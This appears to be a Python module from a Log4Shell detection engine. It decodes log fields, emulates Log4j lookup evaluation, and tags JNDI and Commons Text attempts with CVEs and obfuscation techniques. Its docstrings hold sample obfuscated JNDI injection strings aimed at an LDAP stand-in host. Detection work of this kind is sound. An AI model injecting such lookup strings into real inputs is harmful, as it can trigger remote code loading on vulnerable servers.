"""The detection engine: decode a field, evaluate it like Log4j, report its lookups."""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import replace

from detectors import commons_text, iocs
from detectors.decoding import FORM, URL, Candidate, candidates, replay
from detectors.interpreter import Evaluation, JndiCall, Limits, evaluate
from detectors.model import (
    CVE_BYPASS,
    CVE_COMMONS_TEXT,
    CVE_LOG4SHELL,
    CVE_RECURSION,
    FAMILY_COMMONS_TEXT,
    FAMILY_LOG4SHELL,
    LIMIT_LENGTH,
    FieldVerdict,
    Lookup,
    RecordVerdict,
)

#: Longest value evaluated; the rest of a longer value is not looked at.
# XXX(#3): a lookup placed after the first 64 KiB of a value is not seen; the
# verdict then says limit_hit="length" so the record can still be looked at.
MAX_LENGTH = 65_536

_DECODING_TECHNIQUES = {
    "unicode-escape": "unicode-escape",
    "hex-escape": "hex-escape",
    "json-escape": "json-escape",
    "html-entity": "html-entity",
    "base64": "base64",
    FORM: "form-encoded",
}
# Evaluation tags that say something about one call, not the whole field.
_PER_CALL = frozenset({"exfiltration", "rescan"})
# Tags that do not count as obfuscation when deciding on "plain".
_NOT_OBFUSCATION = frozenset(
    {
        "exfiltration",
        "ip-literal",
        "ipv6",
        "oob-service",
        "exploit-kit-command",
        "uncommon-scheme",
    }
)
_JNDI_SHAPE = re.compile(r"\$\{\s*j\s*n\s*d\s*i")


def analyze(
    value: str, field: str = "value", limits: Limits | None = None
) -> FieldVerdict:
    """Decode and evaluate one field value.

    Example:
        >>> verdict = analyze("${${lower:j}ndi:ldap://example.com/a}")
        >>> verdict.malicious, verdict.lookups[0].host
        (True, 'example.com')
    """
    limit_hit: str | None = None
    if len(value) > MAX_LENGTH:
        value = value[:MAX_LENGTH]
        limit_hit = LIMIT_LENGTH
    if not _may_decode_to_lookup(value):
        return FieldVerdict(field, False, False, (), (), limit_hit)
    found: dict[tuple[str, str], Lookup] = {}
    inert_tags: set[str] = set()
    inert = False
    for candidate in candidates(value, field):
        text = candidate.text
        if "${" not in text:
            continue
        if FORM in candidate.decodings and found:
            continue
        evaluation = evaluate(text, limits)
        limit_hit = limit_hit or evaluation.limit_hit
        remote = False
        for call in _unique_calls(evaluation.jndi):
            lookup = _jndi_lookup(call, candidate, evaluation)
            if lookup is None:
                inert = True
                continue
            remote = True
            _add(found, lookup)
        for bare in commons_text.lookups(text, candidate.decodings, limits):
            remote = True
            merged = {*bare.techniques, *_decoding_tags(candidate.decodings)}
            text_lookup = replace(bare, techniques=tuple(sorted(merged)))
            _add(found, text_lookup)
        if not remote and _attack_shaped(text, evaluation):
            inert = True
            inert_tags |= (evaluation.techniques - _PER_CALL) | _decoding_tags(
                candidate.decodings
            )
    lookups = tuple(found.values())
    malicious = bool(lookups)
    tags = set(inert_tags) if not malicious else set()
    for lookup in lookups:
        tags.update(lookup.techniques)
    if limit_hit is not None:
        tags.add("limit-hit")
        inert = inert or not malicious

    return FieldVerdict(
        field,
        malicious,
        inert and not malicious,
        lookups,
        tuple(sorted(tags)),
        limit_hit,
    )


def analyze_fields(
    fields: Iterable[tuple[str, str]], limits: Limits | None = None
) -> RecordVerdict:
    """Analyze every ``(field name, value)`` of a record; keep the fields that matter.

    Example:
        >>> analyze_fields([("url.original", "/"), ("user_agent.original", "x")]).fields
        ()
    """
    kept: list[FieldVerdict] = []
    for name, value in fields:
        verdict = analyze(value, name, limits)
        if verdict.malicious or verdict.inert:
            kept.append(verdict)
    malicious = any(v.malicious for v in kept)
    tags = sorted({t for v in kept for t in v.techniques})
    limit_hit = next((v.limit_hit for v in kept if v.limit_hit), None)

    return RecordVerdict(
        malicious, not malicious and bool(kept), tuple(kept), tuple(tags), limit_hit
    )


def _add(found: dict[tuple[str, str], Lookup], lookup: Lookup) -> None:
    """Keep one Lookup per target; a more decoded sighting replaces a less decoded one.

    ``${jndi:ldap:\\/\\/example.com\\/a}`` in a JSON body reaches Log4j either as
    written or JSON-decoded; both name the same target, and the decoded URL is the
    one worth reporting.
    """
    key = (lookup.family, lookup.url)
    if key in found:
        return
    depth = len(lookup.decodings)
    for old_key, old in list(found.items()):
        shallower = len(old.decodings) < depth
        if shallower and lookup.decodings[: len(old.decodings)] == old.decodings:
            extra = lookup.decodings[len(old.decodings) :]
            if old.family == lookup.family and replay(old.url, extra) == lookup.url:
                del found[old_key]
    found[key] = lookup


def _may_decode_to_lookup(value: str) -> bool:
    """Cheap test on a parsed value: can any decoding give it a ``${``?"""
    return (
        "${" in value
        or "%" in value
        or "\\" in value
        or "&" in value
        or "asic" in value
    )


def _unique_calls(calls: list[JndiCall]) -> list[JndiCall]:
    seen: dict[str, JndiCall] = {}
    for call in calls:
        if call.name not in seen:
            seen[call.name] = call

    return list(seen.values())


def _decoding_tags(decodings: tuple[str, ...]) -> set[str]:
    tags = {_DECODING_TECHNIQUES[d] for d in decodings if d in _DECODING_TECHNIQUES}
    url_layers = decodings.count(URL)
    if url_layers == 1:
        tags.add("url-encoded")
    elif url_layers > 1:
        tags.add("url-encoded-repeated")

    return tags


def _jndi_lookup(
    call: JndiCall, candidate: Candidate, evaluation: Evaluation
) -> Lookup | None:
    """A Lookup for a JNDI call that leaves the host, else None (a local name)."""
    scheme = iocs.jndi_scheme(call.name)
    # XXX(#3): JNDI picks URL context factories by the scheme as written, so
    # "LDAP://" fails on a stock JDK; it is still flagged because the attacker
    # meant it and another JNDI provider may accept it. Not a false negative risk.
    if scheme is None or scheme.lower() == "java":
        return None
    target = iocs.split_target(call.display)
    tags = (evaluation.techniques - _PER_CALL) | _decoding_tags(candidate.decodings)
    if call.exfil:
        tags.add("exfiltration")
    if call.rescan:
        tags.add("rescan")
    cves = [CVE_LOG4SHELL]
    if target.fragment_host is not None:
        tags.add("host-fragment")
        cves.append(CVE_BYPASS)
    if "recursion" in tags:
        cves.append(CVE_RECURSION)
    kind = iocs.host_kind(target.host)
    if kind == "ipv4":
        tags.add("ip-literal")
    elif kind == "ipv6":
        tags.add("ipv6")
    if target.scheme not in iocs.COMMON_SCHEMES:
        tags.add("uncommon-scheme")
    oob = iocs.oob_service(target.host) if target.host else None
    if oob is not None:
        tags.add("oob-service")
    commands = iocs.commands(target.path)
    if commands:
        tags.add("exploit-kit-command")
    if not tags - _NOT_OBFUSCATION:
        tags.add("plain")

    return Lookup(
        family=FAMILY_LOG4SHELL,
        url=call.display,
        scheme=target.scheme,
        host=target.host,
        port=target.port,
        path=target.path,
        decodings=candidate.decodings,
        techniques=tuple(sorted(tags)),
        cves=tuple(cves),
        exfil=call.exfil,
        oob=oob,
        commands=commands,
    )


def _attack_shaped(text: str, evaluation: Evaluation) -> bool:
    """Attack-shaped but not reaching a remote lookup: an inert attempt."""
    if evaluation.aborted == "recursion" or evaluation.limit_hit is not None:
        return True
    if any("jndi" in name.lower() for name in evaluation.names):
        return True
    if commons_text.shaped(text):
        return True

    lowered = text.lower()

    return "jndi" in lowered and _JNDI_SHAPE.search(lowered) is not None


__all__ = ["CVE_COMMONS_TEXT", "FAMILY_COMMONS_TEXT", "analyze", "analyze_fields"]
